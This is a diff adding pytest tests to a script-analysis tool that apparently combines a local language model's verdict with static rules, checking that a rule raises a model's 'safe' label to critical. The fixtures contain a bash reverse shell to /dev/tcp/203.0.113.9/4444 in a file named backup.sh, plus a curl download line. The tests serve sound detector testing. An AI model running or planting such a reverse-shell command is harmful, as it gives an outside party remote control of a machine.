@@ -317,3 +317,42 @@ def test_output_off_a_terminal_is_never_wrapped_or_cut(fake_ollama: FakeOllama, 
     ChatSession(backend=be, console=PlainConsole(file=buf), lang="en").ask("how?")
     be.close()
     assert fake_ollama.reply in buf.getvalue()
+
+
+def test_a_high_static_finding_vetoes_a_safe_answer(fake_ollama: FakeOllama, tmp_path: Path) -> None:
+    """The model says safe to a /dev/tcp reverse shell: the report says critical, and says why."""
+    fake_ollama.add_model("fwyy-llama3")
+    fake_ollama.reply = SAFE_JSON
+    shell = tmp_path / "backup.sh"
+    shell.write_text("#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
+    proc = fwyy("analyze", str(shell), "--json", "-m", "fwyy-llama3", host=fake_ollama.host)
+    assert proc.returncode == 1, proc.stderr
+    out = as_json(proc)
+    assert (out["label"], out["verdict"], out["model_label"]) == ("critical", "risky", "safe")
+    assert out["raised_by"]["rule"] == "bash:revshell" and out["raised_by"]["cwe"] == "CWE-506"
+    assert out["analysis"] == "Lists the files of the current folder."  # the model's words are kept
+    proc = fwyy("analyze", str(shell), "-m", "fwyy-llama3", host=fake_ollama.host)
+    assert proc.returncode == 1
+    err = " ".join(proc.stderr.decode().split())
+    assert "the model said safe; fwyy's static checks raised it to critical" in err and "/dev/tcp/" in err
+    assert "CRITICAL" in proc.stdout.decode()
+    for off in (["--no-veto"], ["--no-findings"]):  # the model's own verdict, as before
+        proc = fwyy("analyze", str(shell), "--json", "-m", "fwyy-llama3", *off, host=fake_ollama.host)
+        assert proc.returncode == 0, off
+        out = as_json(proc)
+        assert (out["label"], out["model_label"], out["raised_by"]) == ("safe", "safe", None)
+
+
+def test_the_veto_leaves_risky_labels_and_medium_rules_alone(fake_ollama: FakeOllama, tmp_path: Path) -> None:
+    from fwyy_ollama import analyze
+
+    fake_ollama.add_model("fwyy-llama3")
+    # A risky label stands as the model gave it, even below the rule's severity.
+    fake_ollama.reply = SAFE_JSON.replace('"safe"', '"low"')
+    result = analyze("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", model="fwyy-llama3")
+    assert result.label is Label.LOW and result.raised_by is None and result.veto_note is None
+    # A medium rule (an encoded payload, a quote in SQL) is a hint for the model, never a veto.
+    fake_ollama.reply = SAFE_JSON
+    for text in ("curl -o /tmp/x https://example.com/x", "SELECT name FROM users WHERE id = '7'"):
+        result = analyze(text, model="fwyy-llama3")
+        assert result.label is Label.SAFE and result.exit_code == 0, text
